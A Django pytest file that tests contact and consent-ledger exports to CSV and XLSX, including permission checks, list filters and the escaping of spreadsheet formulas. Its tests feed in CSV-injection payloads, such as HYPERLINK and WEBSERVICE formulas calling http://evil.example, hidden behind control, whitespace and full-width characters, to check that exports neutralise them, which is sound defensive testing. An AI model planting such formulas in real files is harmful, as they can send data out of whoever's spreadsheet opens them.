"""Exports: contacts with their states, the ledger for a period; CSV and XLSX; formulas escaped."""

import csv
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from consent.models import ConsentEvent
from consent.rules import Action
from consent.services import Evidence
from contacts.admin import ContactAdmin
from contacts.models import Contact
from imports.models import ExportJob
from tests.consent_helpers import record
from tests.factories import ContactFactory

pytestmark = pytest.mark.django_db


CONTACTS = "/admin/imports/exportjob/contacts/"
LEDGER = "/admin/imports/exportjob/ledger/"


def body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def export(staff_client, django_capture_on_commit_callbacks):
    """export(url, client=…, **form) -> the file's bytes: asked for, written by the task
    (eagerly here), downloaded from the job's page as the person who asked."""

    def run(url: str = CONTACTS, client=None, **data) -> bytes:
        client = client or staff_client
        data = {"file_format": "csv", "style": "codes", **data}
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(url, data)
        assert response.status_code == 302, response.content.decode()[:2000]
        page = client.get(response.url).content.decode()
        assert "Ready to download" in page, page[-3000:]
        download = client.get(response.url.replace("/progress/", "/download/"))
        assert download.status_code == 200
        return body(download)

    return run


@pytest.fixture
def ada(db):
    contact = ContactFactory(
        phone="+447911123456", name='=HYPERLINK("x")', attributes={"city": "@York"}
    )
    record(contact, Action.GRANT, at=timezone.now() - timedelta(days=1))
    return contact


def test_contacts_export_as_csv_with_states_and_formulas_escaped(export, ada):
    rows = list(csv.DictReader(io.StringIO(export().decode())))
    [row] = rows
    assert row["phone"] == "+447911123456" and row["name"] == '\'=HYPERLINK("x")'
    # Attributes are one JSON column, whatever keys contacts have.
    assert row["attributes"] == '{"city":"@York"}' and "attr:city" not in row
    assert (row["marketing_state"], row["service_state"]) == ("opted_in", "none")


def test_contacts_export_as_xlsx(export, ada):
    sheet = load_workbook(io.BytesIO(export(file_format="xlsx")), read_only=True).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    values = dict(zip(header, row, strict=True))
    assert values["name"] == '\'=HYPERLINK("x")' and values["marketing_state"] == "opted_in"


def test_an_exported_xlsx_in_codes_reads_back_and_adds_nothing(
    export, ada, policy, tmp_path, run_import
):
    path = tmp_path / "contacts.xlsx"
    path.write_bytes(export(file_format="xlsx"))
    events = ConsentEvent.objects.count()

    report = run_import(path)

    assert report.ok, report.errors.shown()
    assert report.counts()["skipped_rows"] == 1 and report.events == 0
    assert ConsentEvent.objects.count() == events and Contact.objects.count() == 1


def test_the_ledger_for_a_period(export, ada):
    old = ContactFactory(phone="+447911123457")
    record(old, Action.WITHDRAW, at=timezone.now() - timedelta(days=40))
    today = timezone.now().date()
    start = (today - timedelta(days=2)).isoformat()
    content = export(LEDGER, start=start, end=today.isoformat())
    rows = list(csv.DictReader(io.StringIO(content.decode())))
    event = ConsentEvent.objects.get(contact=ada)
    assert [(r["event_id"], r["action"], r["hash"]) for r in rows] == [
        (str(event.pk), "grant", event.hash)
    ]


def test_the_ledger_export_needs_the_proof_permission(db, ada):
    user = get_user_model().objects.create_user("marketer", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Marketing"))
    client = Client()
    client.force_login(user)
    assert client.get(LEDGER).status_code == 403
    user.groups.add(Group.objects.get(name="Compliance"))
    assert client.get(LEDGER).status_code == 200


def test_the_export_commands_write_files(ada, tmp_path):
    call_command("export_contacts", str(tmp_path / "c.xlsx"))
    call_command("export_contacts", str(tmp_path / "l.csv"), "--ledger", "--since", "2000-01-01")
    sheet = load_workbook(tmp_path / "c.xlsx", read_only=True).worksheets[0]
    assert len(list(sheet.iter_rows())) == 2
    assert (tmp_path / "l.csv").read_text().count("\n") == 2


# --- Formulae: judged on the final bytes ------------------------------------------------

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PHONE = re.compile(r"^\+\d{6,15}$")
# What spreadsheets run as a formula: = + - @ first, also behind spaces or control and
# format characters some programs drop, and in full-width or small forms (＝ ﹦ ＋ …).
PREFIXES = ["", "\x01", "\x01\x02\x1f", "\t", "\r", "\n", " ", "  \t ", "\u3000", "\u200b"]
TRIGGERS = ["=", "+", "-", "@", "＝", "﹦", "＋", "＠"]


def runs_as_formula(text: str) -> bool:
    rest = text.lstrip()
    while rest and unicodedata.category(rest[0]).startswith(("C", "Z")):
        rest = rest[1:].lstrip()
    return unicodedata.normalize("NFKC", rest[:1])[:1] in ("=", "+", "-", "@")


def sheet_cells(xlsx: bytes) -> list[tuple[str, ET.Element]]:
    """(text, cell) of every cell in the workbook's first sheet, from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        root = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    cells = []
    for cell in root.iter(f"{MAIN}c"):
        texts = [t.text or "" for t in cell.iter(f"{MAIN}t")]
        value = cell.find(f"{MAIN}v")
        if not texts and value is not None:
            texts = [value.text or ""]
        cells.append(("".join(texts), cell))
    return cells


def as_a_workbook_holds(text: str) -> str:
    # Dropped: control characters a workbook cannot hold; a raw CR reads back as LF (XML).
    return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")


def assert_no_formula(xlsx: bytes) -> list[str]:
    texts = []
    for text, cell in sheet_cells(xlsx):
        assert cell.find(f"{MAIN}f") is None, ET.tostring(cell)
        # A validated E.164 phone is the one text left as it is: its '+' is no formula.
        assert not runs_as_formula(text) or PHONE.match(text), repr(text)
        texts.append(text)
    return texts


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_no_cell_of_the_xlsx_contact_export_runs_as_a_formula(export, prefix, trigger):
    payload = f'{prefix}{trigger}HYPERLINK("http://evil.example","x")'
    ContactFactory(name=payload, external_id=payload, attributes={"city": payload})

    texts = assert_no_formula(export(file_format="xlsx", style="words"))
    # The name is there, escaped after the writer dropped what a workbook cannot hold.
    assert "'" + as_a_workbook_holds(payload) in texts


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_no_cell_of_the_xlsx_ledger_export_runs_as_a_formula(export, ada, prefix, trigger):
    note = f'{prefix}{trigger}WEBSERVICE("http://evil.example/?"&A1)'
    record(ada, Action.WITHDRAW, evidence=Evidence(note=note))
    today = timezone.now().date().isoformat()

    texts = assert_no_formula(export(LEDGER, start=today, end=today, file_format="xlsx"))
    assert "'" + as_a_workbook_holds(note) in texts


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_every_csv_cell_that_would_run_as_a_formula_is_escaped(export, prefix, trigger):
    payload = f"{prefix}{trigger}1+1"
    ContactFactory(name=payload, external_id=payload)

    for style, name, external_id, phone in (
        ("codes", "name", "external_id", "phone"),
        ("words", "Name", "External id", "Phone"),
    ):
        [row] = list(csv.DictReader(io.StringIO(export(style=style).decode())))
        assert row[name] == row[external_id] == f"'{payload}"
        assert not any(runs_as_formula(v) for k, v in row.items() if k != phone)


def test_the_export_command_writes_no_formula_either(tmp_path):
    ContactFactory(name='\x01=HYPERLINK("http://evil.example")')
    call_command("export_contacts", str(tmp_path / "c.xlsx"))
    texts = assert_no_formula((tmp_path / "c.xlsx").read_bytes())
    assert '\'=HYPERLINK("http://evil.example")' in texts


def test_escaped_cells_read_back_as_they_were(export, policy, tmp_path, run_import):
    contact = ContactFactory(name=" =1+1", external_id="＝SUM(A1)")
    path = tmp_path / "contacts.xlsx"
    path.write_bytes(export(file_format="xlsx"))

    report = run_import(path)

    assert report.ok and report.counts()["skipped_rows"] == 1, report.errors.shown()
    contact.refresh_from_db()
    assert (contact.name, contact.external_id) == (" =1+1", "＝SUM(A1)")


# --- "Export selected" ------------------------------------------------------------------


@pytest.fixture
def three(db):
    return [ContactFactory(name=name) for name in ("Ada", "Bob", "Cy")]


def export_selected(client, contacts, **form):
    return client.post(
        "/admin/contacts/contact/",
        {"action": "export_selected", "_selected_action": [str(c.pk) for c in contacts], **form},
    )


@pytest.fixture
def selected(staff_client, django_capture_on_commit_callbacks):
    """selected(contacts, file_format) -> the file's bytes, as "Export selected" makes it."""

    def run(contacts, file_format: str = "csv", url: str = "/admin/contacts/contact/", **form):
        with django_capture_on_commit_callbacks(execute=True):
            response = staff_client.post(
                url,
                {
                    "action": "export_selected",
                    "_selected_action": [str(c.pk) for c in contacts] or ["x"],
                    "file_format": file_format,
                    "style": "codes",
                    **form,
                },
            )
        assert response.status_code == 302, response.content.decode()[-2000:]
        return body(staff_client.get(response.url.replace("/progress/", "/download/")))

    return run


def test_export_selected_first_asks_for_the_format(staff_client, three):
    response = export_selected(staff_client, three[:2])

    page = response.content.decode()
    assert response.status_code == 200 and "The 2 contacts you selected." in page
    assert 'name="file_format"' in page and 'value="export_selected"' in page
    assert page.count('name="_selected_action"') == 2
    assert not ExportJob.objects.exists()


def test_export_selected_as_csv_has_only_the_selection(selected, three):
    rows = list(csv.DictReader(io.StringIO(selected(three[:2]).decode())))
    assert sorted(r["name"] for r in rows) == ["Ada", "Bob"]


def test_export_selected_as_xlsx_has_only_the_selection(selected, three):
    sheet = load_workbook(io.BytesIO(selected(three[1:], "xlsx")), read_only=True).worksheets[0]
    header, *rows = list(sheet.iter_rows(values_only=True))
    names = [dict(zip(header, row, strict=True))["name"] for row in rows]
    assert sorted(names) == ["Bob", "Cy"]


def test_export_selected_with_select_all_exports_the_filtered_list(selected, three):
    content = selected([], url="/admin/contacts/contact/?q=Bob", select_across="1")

    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert [r["name"] for r in rows] == ["Bob"]


# --- The list's Export button: what the list shows, every page ------------------------


def test_the_list_export_button_carries_the_lists_query_and_says_how_many(staff_client, three):
    page = staff_client.get("/admin/contacts/contact/?q=Bob&o=2&p=1").content.decode()

    button = re.search(r'href="(/admin/imports/exportjob/contacts/[^"]*)"[^>]*>([^<]*)<', page)
    assert button is not None
    assert button.group(2) == "Export 1 contact"
    assert "q=Bob" in button.group(1) and "o=2" in button.group(1)
    assert "p=1" not in button.group(1)


def test_the_unfiltered_list_export_counts_every_contact(staff_client, three):
    page = staff_client.get("/admin/contacts/contact/").content.decode()
    assert ">Export 3 contacts<" in page
    form = staff_client.get(CONTACTS).content.decode()
    assert "Export 3 contacts" in form


def test_the_list_export_exports_the_search_and_filters_of_the_list(export, three):
    record(three[0], Action.GRANT)
    record(three[2], Action.GRANT)

    content = export(f"{CONTACTS}?marketing_consent=opted_in&q=a")

    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert [r["name"] for r in rows] == ["Ada"]
    job = ExportJob.objects.get()
    assert job.selection == {"filters": "marketing_consent=opted_in&q=a"}
    assert job.description == "1 contact, as the list showed them"


def test_the_list_export_keeps_the_lists_order_across_every_page(export, staff_client, monkeypatch):
    for name, phone in (("Bea", "+447911000002"), ("Cal", "+447911000003")):
        ContactFactory(name=name, phone=phone)
    for name, phone in (("Abe", "+447911000001"), ("Dot", "+447911000004")):
        ContactFactory(name=name, phone=phone)
    monkeypatch.setattr(ContactAdmin, "list_per_page", 2)
    # The list sorted by phone, descending (its second column), two to a page.
    listed = staff_client.get("/admin/contacts/contact/?o=-2").content.decode()
    assert listed.index("Dot") < listed.index("Cal") and "Abe" not in listed

    content = export(f"{CONTACTS}?o=-2")

    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert [r["name"] for r in rows] == ["Dot", "Cal", "Bea", "Abe"]


@pytest.mark.parametrize(
    "query, field",
    [
        ("nonsense=1", "nonsense"),
        ("created_at__gte=soon", "created_at__gte"),
        ("name__regex=[", "name__regex"),
    ],
)
def test_a_hand_edited_list_query_is_refused_naming_it(staff_client, three, query, field):
    asked = staff_client.get(f"{CONTACTS}?{query}")
    sent = staff_client.post(f"{CONTACTS}?{query}", {"file_format": "csv", "style": "codes"})
    for response in (asked, sent):
        assert response.status_code == 400
        assert f"({field})" in response.content.decode()
    assert not ExportJob.objects.exists()


def test_export_selected_needs_the_view_permission(db, three):
    user = get_user_model().objects.create_user("nobody", password="pw", is_staff=True)
    client = Client()
    client.force_login(user)
    assert export_selected(client, three, file_format="csv", style="words").status_code == 403
    assert not ExportJob.objects.exists()


# --- Many attribute keys ----------------------------------------------------------------


def test_an_export_with_100000_attribute_keys_keeps_within_the_column_limit(export, settings):
    # given 100 contacts with 1,000 keys each: 100,000 distinct keys in all
    for n in range(100):
        ContactFactory(attributes={f"key{n}-{i}": str(i) for i in range(1000)})

    # then both formats answer, with the same few columns and each contact's attributes whole
    sheet = load_workbook(io.BytesIO(export(file_format="xlsx")), read_only=True).worksheets[0]
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert len(header) <= settings.IMPORT_MAX_COLUMNS and len(rows) == 100
    attributes = dict(zip(header, rows[0], strict=True))["attributes"]
    assert len(json.loads(attributes)) == 1000

    rows = list(csv.DictReader(io.StringIO(export().decode())))
    assert len(rows) == 100 and len(rows[0]) <= settings.IMPORT_MAX_COLUMNS
    assert sum(len(json.loads(r["attributes"])) for r in rows) == 100_000


def test_a_cell_longer_than_a_spreadsheet_holds_is_cut_and_says_so(export):
    ContactFactory(attributes={f"key{i}": "x" * 100 for i in range(1000)})

    sheet = load_workbook(io.BytesIO(export(file_format="xlsx")), read_only=True).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    attributes = dict(zip(header, row, strict=True))["attributes"]
    assert len(attributes) == 32_767 and attributes.endswith("the CSV export has it whole]")
